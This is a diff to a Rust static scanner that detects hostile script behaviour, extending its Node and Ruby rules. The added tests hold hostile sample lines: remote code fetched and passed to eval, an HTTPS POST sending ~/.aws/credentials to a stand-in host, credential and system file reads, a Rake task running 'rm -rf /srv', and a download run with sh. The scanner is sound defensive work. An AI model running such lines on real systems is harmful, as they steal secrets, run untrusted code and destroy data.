@@ -562,6 +562,16 @@ impl Scan<'_> {
                     out.push_str(s);
                     any = true;
                 }
+                // `require('os').homedir()`: the module's name is no part of the path
+                Tok::Id(id)
+                    if id == "require"
+                        && matches!(toks.get(k + 1), Some(Tok::P('(')))
+                        && matches!(toks.get(k + 2), Some(Tok::Str(..)))
+                        && matches!(toks.get(k + 3), Some(Tok::P(')'))) =>
+                {
+                    k += 4;
+                    continue;
+                }
                 Tok::P('+' | '.' | '(' | ')') => {}
                 Tok::Id(id) if is_home_expr(id) => {
                     out.push('~');
@@ -1097,7 +1107,12 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
         "net.connect",
         "createConnection",
         "Socket.tcp",
-    ]);
+    ]) || (lang == Lang::Node
+        // `require('https').request({host: 'h', …})`: a request to a bare host
+        && has(&["request", "https.request", "http.request"])
+        && toks
+            .iter()
+            .any(|t| matches!(t, Tok::Str(s, _) if s == "https" || s == "http")));
     let socket = has(&[
         "socket.socket",
         "create_connection",
@@ -1209,9 +1224,11 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                             && (full.contains('.') || name != "popen")
                     }
                     Lang::Perl => matches!(name, "system" | "exec" | "readpipe"),
+                    // `sh` is Rake's (a Rakefile's tasks)
                     Lang::Ruby => matches!(
                         name,
                         "system"
+                            | "sh"
                             | "exec"
                             | "spawn"
                             | "popen"
@@ -1465,7 +1482,14 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                                     .any(|t| matches!(t, Tok::Id(x) if x == "mode"))
                         }
                         Lang::Node => {
-                            matches!(name, "readFileSync" | "readFile" | "createReadStream")
+                            matches!(
+                                name,
+                                "readFileSync"
+                                    | "readFile"
+                                    | "createReadStream"
+                                    | "readTextFile"
+                                    | "readTextFileSync"
+                            ) || full == "Bun.file"
                         }
                         Lang::Ruby => {
                             (full.starts_with("File") || full.starts_with("IO"))
@@ -1536,6 +1560,13 @@ fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
                 _ => {}
             }
         }
+    }
+    // eval handed over as a function (`fetch(u).then(r => r.text()).then(eval)`)
+    if toks
+        .windows(3)
+        .any(|w| matches!(w, [Tok::P('(' | ','), Tok::Id(e), Tok::P(')')] if e == "eval"))
+    {
+        exec_dyn = true;
     }
     // a download written to a file the body then runs (`open(p,'wb').write(urlopen(u).read());
     // os.system('sh ' + p)`) is fetched code run
@@ -1675,6 +1706,31 @@ mod tests {
         );
         assert!(f.contains(&Found::Fetch("https://e.example/p.py".into())));
         assert!(f.contains(&Found::RunFetched));
+        // Node: eval handed over as a function, a request to a bare host, Bun's and Deno's
+        // file reads, `require('os').homedir()` as the home
+        let node = |code| scan(Lang::Node, code);
+        assert!(
+            node("fetch('https://e.example/m.js').then(r=>r.text()).then(eval)")
+                .contains(&Found::RunFetched)
+        );
+        assert!(
+            !node("fetch('https://e.example/m.json').then(r=>r.json()).then(console.log)")
+                .contains(&Found::RunFetched)
+        );
+        let f = node("require('https').request({host:'e.example',method:'POST'}).end(require('fs').readFileSync(require('os').homedir()+'/.aws/credentials'))");
+        assert!(f.contains(&Found::Fetch("https://e.example/".into())));
+        assert!(f.contains(&Found::Read("~/.aws/credentials".into())));
+        assert!(node("Bun.file(process.env.HOME+'/.docker/config.json')")
+            .contains(&Found::Read("~/.docker/config.json".into())));
+        assert!(node("await Deno.readTextFile('/etc/hosts')")
+            .contains(&Found::Read("/etc/hosts".into())));
+        // Rake's `sh` runs a shell line
+        assert!(
+            scan(Lang::Ruby, "task(:default){ sh \"rm -rf /srv\" }").contains(&Found::Shell {
+                text: "rm -rf /srv".into(),
+                dynamic: false
+            })
+        );
         // a download written to a file the body then runs
         assert!(py("import urllib.request as u, os; open('/tmp/x.sh','wb').write(u.urlopen('http://e.example/x.sh').read()); os.system('sh /tmp/x.sh')").contains(&Found::RunFetched));
         assert!(!py("import urllib.request as u, os; open('/tmp/x.json','wb').write(u.urlopen('https://e.example/x').read()); os.system('ls /tmp')").contains(&Found::RunFetched));
